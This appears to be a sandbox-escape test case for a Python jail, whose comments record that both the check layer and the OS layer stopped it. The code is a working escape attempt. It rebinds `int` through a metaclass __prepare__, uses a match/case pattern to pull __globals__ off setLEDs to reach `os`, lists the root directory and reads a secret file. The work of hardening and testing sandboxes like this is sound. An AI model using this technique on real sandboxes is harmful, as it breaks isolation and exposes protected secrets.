# Tries: rebind `int` where no binding is written at all: in a class body, names are
#   looked up in the dict the metaclass's __prepare__ returns, so {"int": Grab} makes
#   `case int(found)` there read __match_args__ ("__globals__") off setLEDs.
# Check layer: rejected (a positional pattern directly in a class body).
# Sandbox layer: the probe holds os ("reached os:"); the secret is not in the jail -> failed.
def grab(Base):
    class Probe(Base):
        match setLEDs:
            case int(found):
                pass
    return Probe.found


try:
    kinds = [type(1)]
    T = type(kinds[0])
except Exception:  # a runtime guard on type() may refuse it; the OS layer must hold without one
    T = ().__class__.__class__
Meta = T("Meta", (T,), {
    "__instancecheck__": lambda cls, obj: True,
    "__prepare__": classmethod(lambda mcls, name, bases, **kw: {"int": Grab}),
})
Grab = Meta("Grab", (), {"__match_args__": ("__globals__",)})
os = grab(Meta("Base", (), {}))["_os"]
print("reached os:", os, sorted(os.listdir("/")))
fd = os.open("@@SECRET_PATH@@", os.O_RDONLY)
print("ESCAPED" + ":", os.read(fd, 200))
